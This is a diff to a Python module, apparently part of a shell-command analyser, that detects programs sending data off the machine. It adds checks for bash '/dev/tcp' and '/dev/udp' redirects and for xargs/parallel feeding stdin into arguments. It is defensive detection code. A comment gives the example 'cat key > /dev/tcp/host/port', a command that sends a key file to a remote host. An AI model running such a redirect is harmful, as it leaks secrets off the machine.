@@ -1,5 +1,6 @@
 """Programs that send data off the machine, and what each one sends: the
-files named in its arguments, its stdin, or a script of transfer commands."""
+files named in its arguments, its stdin, or a script of transfer commands;
+and `/dev/tcp` redirects, which make any program a sender."""
 
 from __future__ import annotations
 
@@ -14,6 +15,8 @@ from redline.shell.invocation import Invocation
 _REMOTE = re.compile(r"\A(?:[a-z][\w+.-]*://|\[[^\]]+\]:|[\w.-]+@[\w.-]+:|[a-z0-9][\w.-]*:(?!//))",
                      re.IGNORECASE)  # fmt: skip
 _STDIN = ("-", "/dev/stdin", "/proc/self/fd/0", "/dev/fd/0")
+# bash's network pseudo-files: `cat key > /dev/tcp/host/port`.
+_SOCKET = ("/dev/tcp/", "/dev/udp/")
 
 
 class Sent(NamedTuple):
@@ -34,6 +37,22 @@ def _names(text: str) -> frozenset[str]:
 def is_remote(value: str) -> bool:
     """`host:path`, `user@host:path`, `s3://b/k`, `remote:` (rclone)."""
     return bool(_REMOTE.match(value)) and not value.startswith(("/", "./", "~"))
+
+
+def socket_redirect(inv: Invocation, writes: bool | None = None) -> bool:
+    """A redirect to or from `/dev/tcp/...`; `writes` picks the direction."""
+    for redirect in inv.redirects:
+        target = redirect.target
+        if target is None or not target.value.startswith(_SOCKET):
+            continue
+        if writes is None or redirect.writes is writes or redirect.op == "<>":
+            return True
+    return False
+
+
+def args_from_stdin(inv: Invocation) -> bool:
+    """`xargs CMD`, `parallel CMD`: what comes on stdin becomes arguments."""
+    return inv.appended_args and any(v in ("xargs", "parallel") for v in inv.via)
 
 
 def _stdin_named(files: tuple[str, ...]) -> bool:
